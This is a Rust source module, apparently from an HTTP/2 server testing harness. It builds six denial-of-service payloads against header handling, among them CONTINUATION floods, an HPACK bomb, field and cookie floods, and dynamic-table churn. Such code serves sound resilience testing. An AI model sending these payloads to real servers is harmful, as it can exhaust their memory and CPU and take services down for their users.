//! Field sections that are larger than they look, or never end.

use super::{Attack, nth};
use crate::cases::Target;
use crate::{Block, Wire, block, continuation, headers};

/// The payload of a full frame (RFC 9113 §4.2).
const FULL: usize = 16_384;

/// The dynamic table's first entry (RFC 7541 §2.3.3).
const NEWEST: u64 = 62;

/// A value that fills most of a dynamic table of 4,096 octets.
const LARGE: usize = 4_000;

pub(super) const ATTACKS: [Attack; 6] = [
    Attack::new(
        "continuation-flood",
        "a field block that never ends, in full frames of CONTINUATION",
        |target, count| {
            let name = alloc::format!("x-{count}");
            let field = block().literal(name, "v".repeat(FULL - 32));
            open(target, field)
        },
    )
    .beginning(unfinished)
    .of_fields(),
    Attack::new(
        "continuation-empty",
        "a field block that never ends, in empty frames of CONTINUATION",
        |target, _| open(target, block()),
    )
    .beginning(unfinished)
    .of_fields(),
    Attack::new(
        "hpack-bomb",
        "a field of 4,000 octets in the dynamic table, and requests that refer to it thousands of times",
        |target, count| {
            let mut bomb = target.control("GET");
            for _ in 0..FULL - 256 {
                bomb = bomb.indexed(NEWEST);
            }
            request(nth(target, count + 1), &bomb)
        },
    )
    .beginning(|target| {
        let planted = target.control("GET").indexing("x-bomb", "b".repeat(LARGE));
        request(nth(target, 0), &planted)
    })
    .of_fields(),
    Attack::new(
        "fields-flood",
        "requests of thousands of small fields",
        |target, count| {
            let mut many = target.control("GET");
            for _ in 0..4_000 {
                many = many.literal("a", "");
            }
            request(nth(target, count), &many)
        },
    )
    .of_fields(),
    Attack::new(
        "cookie-crumbs",
        "requests whose cookie comes in thousands of fields",
        |target, count| {
            let mut many = target.control("GET");
            for _ in 0..4_000 {
                // The static table's `cookie` (RFC 7541 §A).
                many = many.literal_at(32, "a");
            }
            request(nth(target, count), &many)
        },
    )
    .of_fields(),
    Attack::new(
        "table-churn",
        "requests whose every field enters the dynamic table and drives another out",
        |target, count| {
            let mut churn = target.control("GET");
            for one in 0..16 {
                let name = alloc::format!("x-{count}-{one}");
                churn = churn.indexing(name, "c".repeat(900));
            }
            request(nth(target, count), &churn)
        },
    )
    .of_fields(),
];

/// The head of a request whose field block goes on.
fn unfinished(target: &Target) -> Vec<u8> {
    target.get(target.stream).end().no_end_headers().octets()
}

/// A fragment behind which the block goes on.
fn open(target: &Target, fragment: Block) -> Vec<u8> {
    continuation(target.stream)
        .block(&fragment)
        .no_end_headers()
        .octets()
}

/// A request, in as many frames as its fields need.
fn request(stream: u32, fields: &Block) -> Vec<u8> {
    let mut fragments = fields.fragments(FULL).into_iter();
    let first = fragments.next().unwrap_or_default();
    let mut octets = headers(stream)
        .end()
        .no_end_headers()
        .block(&first)
        .octets();
    for fragment in fragments {
        octets.extend(
            continuation(stream)
                .no_end_headers()
                .block(&fragment)
                .octets(),
        );
    }
    octets.extend(continuation(stream).octets());
    octets
}
